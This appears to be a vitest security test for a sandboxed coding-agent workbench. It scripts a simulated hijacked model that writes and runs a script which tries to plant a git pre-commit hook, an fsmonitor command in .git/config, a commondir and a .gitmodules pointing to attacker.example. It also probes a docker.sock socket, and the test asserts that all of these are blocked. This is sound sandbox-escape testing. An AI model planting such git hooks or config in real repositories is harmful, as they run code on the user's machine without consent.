// Issue #36, items 1 and 5, through the workbench: every repository of a task is nested inside the task
// folder (the Keel run's workdir), so a hijacked model's script (`node plant.cjs`, which the command check
// cannot read) tries the workspace's `.git/hooks`, `.git/config`, a `commondir` and a `.gitmodules`, and the
// repository's check after the todo tries a Unix socket of the machine. None of it may hold: afterwards the
// user's own git in the workspace runs nothing planted, and the socket's server saw no connection.
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import {
  type Body,
  eventually,
  planningScript,
  repoWithRemote,
  startWorkbench,
  taskInCoding,
  tempDir,
} from './harness.ts';

const bwrap = spawnSync('bwrap', ['--version']).status === 0 ? 'bwrap' : undefined;

describe.skipIf(bwrap === undefined)(
  `a task's nested workspaces in the sandbox${bwrap ? '' : ' (skipped: bwrap is not installed)'}`,
  () => {
    test('a todo plants nothing in its repository, and its check reaches no socket', {
      timeout: 120_000,
    }, async () => {
      const root = tempDir('nested-ws');
      const marker = join(root, 'pwned');
      // A socket outside /tmp (private to the sandbox anyway), as the Docker daemon's or a bus's would be.
      const sockets = await mkdtemp('/var/tmp/keel-ws-sock-');
      const socket = join(sockets, 'docker.sock');
      let connections = 0;
      const server = createServer((connection) => {
        connections++;
        connection.end('pong\n');
      });
      await new Promise<void>((resolve) => server.listen(socket, resolve));
      const check = `const s = require('net').connect(${JSON.stringify(socket)});
s.on('connect', () => { console.log('socket reached'); process.exit(0); });
s.on('error', (e) => { console.log('socket refused ' + e.code); process.exit(0); });
`;
      const plant = `const fs = require('fs');
const tries = [
  ['.git/hooks/pre-commit', '#!/bin/sh\\ntouch ${marker}\\n', 'w'],
  ['.git/config', '[core]\\n\\tfsmonitor = touch ${marker}\\n', 'a'],
  ['.git/commondir', '../evil\\n', 'w'],
  ['.gitmodules', '[submodule "x"]\\n\\tpath = x\\n\\turl = https://attacker.example/x.git\\n', 'w'],
];
for (const [path, text, flag] of tries) {
  try { fs.writeFileSync(path, text, { flag, mode: 0o755 }); console.log('wrote ' + path); }
  catch (e) { console.log(e.code + ' ' + path); }
}
`;
      const repo = repoWithRemote(root, 'app', { 'a.txt': 'a\n', 'check.js': check });
      await using wb = await startWorkbench([
        ...planningScript(1, ['Plant']),
        {
          when: { lastMessageIncludes: 'Do todo 1 of 1' },
          toolCalls: [{ name: 'write_file', arguments: { path: 'app/plant.cjs', content: plant } }],
        },
        {
          when: { lastMessageIncludes: 'Created app/plant.cjs' },
          toolCalls: [{ name: 'exec_command', arguments: { command: 'node plant.cjs', cwd: 'app' } }],
        },
        { when: { lastMessageIncludes: 'EROFS' }, text: 'Planted.' },
      ]);
      const { api } = wb;
      try {
        const task = await taskInCoding(api, [{ path: repo.dir, type: 'custom' }]);
        const edited = await api('PUT', `/api/projects/${task.project_id}`, {
          checks: { app: [{ name: 'probe', command: 'node check.js' }] },
        });
        expect(edited.status, JSON.stringify(edited.body)).toBe(200);
        const workspace = join(task.work_dir, 'app');
        const configBefore = readFileSync(join(workspace, '.git/config'), 'utf8');
        const hooksBefore = readdirSync(join(workspace, '.git/hooks')).sort();

        const todo = (task.todos as Body[])[0] as Body;
        expect((await api('POST', `/api/todos/${todo.id}/execute`)).status).toBe(202);
        const ended = await eventually(async () => {
          const body = (await api('GET', `/api/todos/${todo.id}`)).body;
          return ['done', 'failed'].includes(body.status) && body;
        }, 'the todo to end');

        // The script ran, in the sandbox: each write refused, or undone after it with the reason.
        const turn = JSON.stringify(
          wb.model.chatRequests.find((request) => JSON.stringify(request.messages).includes('EROFS'))
            ?.messages,
        );
        expect(turn).toContain('EROFS .git/hooks/pre-commit');
        expect(turn).toContain('EROFS .git/config');
        expect(turn).toContain("Keel removed what the command created in git's or Keel's control files");
        expect(readFileSync(join(workspace, '.git/config'), 'utf8')).toBe(configBefore);
        expect(readdirSync(join(workspace, '.git/hooks')).sort()).toEqual(hooksBefore);
        expect(existsSync(join(workspace, '.git/commondir'))).toBe(false);
        expect(existsSync(join(workspace, '.gitmodules'))).toBe(false);

        // The check ran in the sandbox and could not reach the socket.
        expect(ended.checks?.[0]?.output, JSON.stringify(ended)).toContain('socket refused ENOENT');
        expect(connections).toBe(0);

        // What the user does next, outside any sandbox: their own git in the workspace.
        spawnSync('git', ['status'], { cwd: workspace });
        spawnSync('git', ['commit', '-q', '--allow-empty', '-m', 'user'], { cwd: workspace });
        expect(existsSync(marker)).toBe(false);
      } finally {
        server.close();
        await rm(sockets, { recursive: true, force: true });
      }
    });
  },
);
